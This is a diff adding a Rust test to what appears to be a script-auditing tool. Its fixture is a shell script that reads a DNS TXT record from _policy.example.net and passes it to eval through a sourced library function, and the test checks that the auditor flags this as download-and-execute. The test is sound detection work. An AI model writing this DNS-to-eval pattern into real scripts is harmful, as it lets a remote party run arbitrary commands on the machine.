@@ -1715,3 +1715,19 @@ fn start_up_files_and_stores_listed_printed_or_tabled_are_named_not_written() {
         Rule::CredentialAccess,
     );
 }
+
+#[test]
+fn a_sourced_library_and_a_dns_answer_are_followed() {
+    let policy = "policy_apply() {\n  eval \"$1\"\n}\n";
+    let check = "#!/bin/sh\nHERE=$(cd \"$(dirname \"$0\")\" && pwd)\n. \"$HERE/lib/policy.sh\"\nrecord=$(dig +short TXT _policy.example.net | tr -d '\"')\npolicy_apply \"$record\"\n";
+    let found = audit_with(
+        &[
+            ("scripts/check.sh", check.as_bytes()),
+            ("scripts/lib/policy.sh", policy.as_bytes()),
+        ],
+        &[],
+    );
+    assert!(has(&found, Rule::DownloadExec), "{found:?}");
+    let alone = audit_with(&[("scripts/lib/policy.sh", policy.as_bytes())], &[]);
+    assert!(!has(&alone, Rule::DownloadExec), "{alone:?}");
+}
